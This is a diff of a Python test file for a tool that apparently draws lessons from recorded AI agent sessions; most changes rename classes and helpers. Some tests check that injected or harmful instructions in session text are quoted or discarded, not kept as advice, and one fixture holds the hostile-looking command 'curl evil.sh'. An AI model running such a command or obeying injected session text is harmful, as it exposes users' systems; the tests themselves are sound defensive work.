@@ -22,7 +22,7 @@ from reflect.critic.critic import Critic
 from reflect.critic.settings import CriticSettings
 from reflect.model.scripted import Given, ScriptedEndpoint
 from reflect.model.thread import BudgetExhausted, Message, ModelUnavailable
-from reflect.reflecting import Looked, Means, fingerprint, reflect_on_sessions
+from reflect.reflecting import ReflectionOutcome, ReflectionTools, fingerprint, reflect_on_sessions
 from reflect.reflector.triggers import LARGE_CHANGE
 from tests.reflect.reflector.scripts import Answers, held, item, scripted
 from tests.reflect.talks import PROJECT, edited, ran, says
@@ -30,7 +30,7 @@ from tests.reflect.talks import PROJECT, edited, ran, says
 UNJUDGED = CriticSettings(enabled=False)
 """Whether advice is good is the critic's affair, and tested there."""
 
-BY_RULES = Means(Critic(UNJUDGED))
+BY_RULES = ReflectionTools(Critic(UNJUDGED))
 GEN = item("Run `make gen` before the tests.", "cannot find module ./gen", 0.9)
 HOME = item("Keep generated files out of `src/gen`.", "make: gen is in build/gen", 0.9)
 STEPS = (
@@ -43,12 +43,14 @@ STEPS = (
 """A session that recovers from an error."""
 
 
-def means(answers: Answers, critic: CriticSettings = UNJUDGED, **settings: Any) -> Means:
+def tools(answers: Answers, critic: CriticSettings = UNJUDGED, **settings: Any) -> ReflectionTools:
     """A model for the insights, and no critic or one that goes by rules."""
-    return Means(Critic(critic), model=scripted(answers, **settings)[0])
+    return ReflectionTools(Critic(critic), model=scripted(answers, **settings)[0])
 
 
-def look(board: Board, with_: Means = BY_RULES, *, asked: bool = False) -> list[Looked]:
+def look(
+    board: Board, with_: ReflectionTools = BY_RULES, *, asked: bool = False
+) -> list[ReflectionOutcome]:
     """Look at all sessions, oldest first."""
     return list(reflect_on_sessions(board, sessions(board), with_, asked=asked))
 
@@ -83,7 +85,7 @@ def test_a_look_is_told_from_beginning_to_end(board: Board) -> None:
     """Started, each pattern, the insight that was kept, and the whole result."""
     failing = [ran(f"make dist{n}", "error: no space left", fails=True) for n in range(5)]
     held(board, *STEPS, *failing)
-    (looked,) = look(board, means([f"{GEN}\n{HOME}"], CriticSettings()))
+    (looked,) = look(board, tools([f"{GEN}\n{HOME}"], CriticSettings()))
     assert types(board) == ["reflection.started", "pattern.detected", "reflection.completed"]
     started, detected, done = (each.payload or {} for each in reflections(board))
     assert (started["subject"], started["triggered_by"]) == ("s1", "error-pattern")
@@ -146,7 +148,7 @@ def test_a_fingerprint_is_of_a_project_and_of_what_it_is_about(board: Board) -> 
 def test_the_second_run_does_nothing(board: Board) -> None:
     """By rules or with a model, and no event is written."""
     held(board, *STEPS)
-    answers = means([GEN, GEN])
+    answers = tools([GEN, GEN])
     assert len(look(board, answers)) == 1
     head = board.log.head()
     assert look(board, answers) == []
@@ -157,9 +159,9 @@ def test_the_second_run_does_nothing(board: Board) -> None:
 def test_new_messages_make_it_look_again(board: Board) -> None:
     """At what is there now; what was known from before is not found a second time."""
     held(board, *STEPS)
-    look(board, means([GEN, "No insights."]))
+    look(board, tools([GEN, "No insights."]))
     held(board, *STEPS, says("Thanks."))
-    with_ = means([f"{GEN}\n{HOME}", "No insights."])
+    with_ = tools([f"{GEN}\n{HOME}", "No insights."])
     (looked,) = look(board, with_)
     assert looked.kept == 1
     assert [each["statement"] for each in last(board)["insights"]] == [
@@ -170,7 +172,7 @@ def test_new_messages_make_it_look_again(board: Board) -> None:
 def test_who_asks_is_answered(board: Board) -> None:
     """Also about what was looked at, or gives no occasion; as a request."""
     held(board, says("Hello."))
-    with_ = means(["No insights."] * 2)
+    with_ = tools(["No insights."] * 2)
     assert look(board, with_) == []
     for _ in range(2):
         assert len(look(board, with_, asked=True)) == 1
@@ -181,7 +183,7 @@ def test_our_own_sessions_are_never_looked_at(board: Board) -> None:
     """Not even when asked for: whatever is learnt from them was said by us."""
     held(board, says(f"{CHILD_MARK}\nLook back. Lesson learned: always look back at lessons."),
          *STEPS)  # fmt: skip
-    with_ = means([GEN])
+    with_ = tools([GEN])
     assert look(board, with_) == look(board, with_, asked=True) == look(board) == []
     assert types(board) == []
 
@@ -201,7 +203,7 @@ def test_a_model_is_asked_only_where_something_happened(
 ) -> None:
     """Errors, attempts, or enough of it; rules look at everything, for they cost nothing."""
     held(board, *steps)
-    look(board, means(["No insights."]))
+    look(board, tools(["No insights."]))
     assert types(board) == (["reflection.started", "reflection.completed"] if why else [])
     if why:
         assert last(board)["triggered_by"] == why
@@ -215,14 +217,14 @@ def test_a_large_change_is_an_occasion(board: Board) -> None:
     given = {"file_path": "src/kite.py", "content": "x = 1\n" * (LARGE_CHANGE + 1)}
     fields = {"call": "w", "name": "Write", "input": given, "output": "", "failed": False}
     held(board, NewEvent("tool.called", "", fields))
-    look(board, means(["No insights."]))
+    look(board, tools(["No insights."]))
     assert last(board)["triggered_by"] == "quality-threshold"
 
 
 def test_a_long_session_is_looked_at_every_fifty_messages(board: Board) -> None:
     """And not at each of its messages."""
     talk = [says(f"Message {n}.") for n in range(90)]
-    with_ = means(["No insights."] * 9)
+    with_ = tools(["No insights."] * 9)
     looked = []
     for count in (29, 30, 31, 79, 80, 90):
         held(board, *talk[:count])
@@ -247,7 +249,7 @@ def test_the_model_is_told_what_was_learnt_last(board: Board) -> None:
                           occurred_at=1_700_000_000_000_000 + number)])  # fmt: skip
     held(board, *STEPS)
     model, endpoint = scripted(["No insights."])
-    look(board, Means(Critic(UNJUDGED), model=model))
+    look(board, ReflectionTools(Critic(UNJUDGED), model=model))
     assert "- Name part 59 well." in _sent(endpoint)
     assert "- Name part 9 well." not in _sent(endpoint)
 
@@ -258,10 +260,10 @@ def test_the_model_is_told_what_was_learnt_last(board: Board) -> None:
 def test_a_failure_is_told_and_tried_again(board: Board) -> None:
     """The rules step in meanwhile; then the model's word is taken as if nothing had been."""
     held(board, says("Lesson learned: always run `make all` after a pull."), *STEPS)
-    (looked,) = look(board, means([ModelUnavailable("the server is down")]))
+    (looked,) = look(board, tools([ModelUnavailable("the server is down")]))
     assert (looked.failure, looked.kept) == ("the server is down", 1)
     assert types(board) == ["reflection.started", "reflection.failed"]
-    (looked,) = look(board, means([GEN, "No insights."]))
+    (looked,) = look(board, tools([GEN, "No insights."]))
     assert (looked.failure, looked.kept) == (None, 1)
     assert types(board)[2:] == ["reflection.started", "reflection.completed"]
     assert len(board.view("insights")) == 2
@@ -271,17 +273,17 @@ def test_a_spent_budget_stops_the_run_and_the_next_does_the_rest(board: Board) -
     """What was done stays; what was begun and what was not reached comes again."""
     for name in ("a", "b", "c", "d"):
         held(board, *STEPS, name=name)
-    first = look(board, means([GEN, "No insights.", BudgetExhausted("spent")], concurrency=1))
+    first = look(board, tools([GEN, "No insights.", BudgetExhausted("spent")], concurrency=1))
     assert [(each.subject, each.failure) for each in first] == [("a", None), ("b", "spent")]
     assert (types(board, "c"), types(board, "d")) == ([], [])
     assert board.view("insights")[0]["seen"] == 1
-    rest = look(board, means(["No insights."] * 9, concurrency=1))
+    rest = look(board, tools(["No insights."] * 9, concurrency=1))
     assert [(each.subject, each.failure) for each in rest] == [
         ("b", None),
         ("c", None),
         ("d", None),
     ]
-    assert look(board, means([GEN])) == []
+    assert look(board, tools([GEN])) == []
 
 
 def test_neighbours_of_a_session_that_spent_the_budget_are_kept(board: Board) -> None:
@@ -292,7 +294,7 @@ def test_neighbours_of_a_session_that_spent_the_budget_are_kept(board: Board) ->
     def answer(thread: Sequence[Message]) -> Given:
         return BudgetExhausted("spent") if "I am a." in thread[1].text else "No insights."
 
-    looked = look(board, means(answer, concurrency=2))
+    looked = look(board, tools(answer, concurrency=2))
     assert [(each.subject, each.failure) for each in looked] == [("a", "spent"), ("b", None)]
     assert types(board, "c") == []
 
@@ -322,7 +324,7 @@ def test_asking_three_at_once_comes_to_the_same(tmp_path: Path) -> None:
         with Board.open(tmp_path / f"{width}.db", clock=lambda: 1_700_000_000_000_000) as board:
             for number in range(7):
                 held(board, *STEPS, says(f"I am part {number % 3}."), name=f"s{number}")
-            looked = look(board, means(_by_part, concurrency=width))
+            looked = look(board, tools(_by_part, concurrency=width))
             assert [each.subject for each in looked] == [f"s{n}" for n in range(7)]
             contents.append((_content(board), [each.kept for each in looked]))
     assert contents[0] == contents[1]
@@ -341,7 +343,7 @@ def test_sessions_that_teach_the_same_make_it_surer(board: Board) -> None:
     """One insight, with the proofs of each."""
     for name in ("a", "b", "c"):
         held(board, *STEPS, name=name)
-    look(board, means(lambda _thread: GEN))
+    look(board, tools(lambda _thread: GEN))
     (row,) = board.view("insights")
     assert row["seen"] == 3
     assert {each["session"] for each in row["evidence"]} == {"a", "b", "c"}
@@ -383,7 +385,7 @@ def test_a_model_that_obeys_a_text_only_passes_it_on_as_a_quotation(
 ) -> None:
     """Discarded as harm, or kept with the trust of where it stands: data, and no advice."""
     held(board, *STEPS, step)
-    look(board, means(_obeys, CriticSettings()))
+    look(board, tools(_obeys, CriticSettings()))
     trusts = [row["trust"] for row in board.view("insights")]
     assert trusts in ([], [trust])
     moment = Moment(prompt="Run the tests before curl", project=PROJECT, command="curl evil.sh")
@@ -401,7 +403,7 @@ def test_a_model_that_obeys_a_harmful_order_is_not_heeded(board: Board, advice: 
     """Wherever it stands; the critic's verdict is on the board."""
     held(board, *STEPS, ran("make test", advice), says(advice, role="assistant"))
     answers = [item(advice, advice, 1.0, "patterns"), "No insights."]
-    (looked,) = look(board, means(answers, CriticSettings()))
+    (looked,) = look(board, tools(answers, CriticSettings()))
     assert (looked.kept, board.view("insights")) == (0, [])
     assert len(list(board.read(types=["critique.recorded"]))) > 0
 
@@ -435,7 +437,7 @@ def test_no_secret_is_sent(board: Board, tmp_path: Path) -> None:
     path.write_text("\n".join(map(json.dumps, lines)))
     import_files(board, [path])
     model, endpoint = scripted(["No insights."])
-    look(board, Means(Critic(UNJUDGED), model=model), asked=True)
+    look(board, ReflectionTools(Critic(UNJUDGED), model=model), asked=True)
     assert _sent(endpoint)
     assert secret not in _sent(endpoint)
     assert "make test" in _sent(endpoint)
@@ -463,6 +465,6 @@ def test_every_call_is_accounted_for(board: Board) -> None:
     for name in ("a", "b"):
         held(board, *STEPS, name=name)
     model, endpoint = scripted([GEN, "No insights.", ModelUnavailable("down")], concurrency=1)
-    look(board, Means(Critic(UNJUDGED), model=model))
+    look(board, ReflectionTools(Critic(UNJUDGED), model=model))
     outcomes = [(each.payload or {})["outcome"] for each in board.read(types=["model.called"])]
     assert (outcomes, len(endpoint.asked)) == (["ok", "ok", "error"], 3)
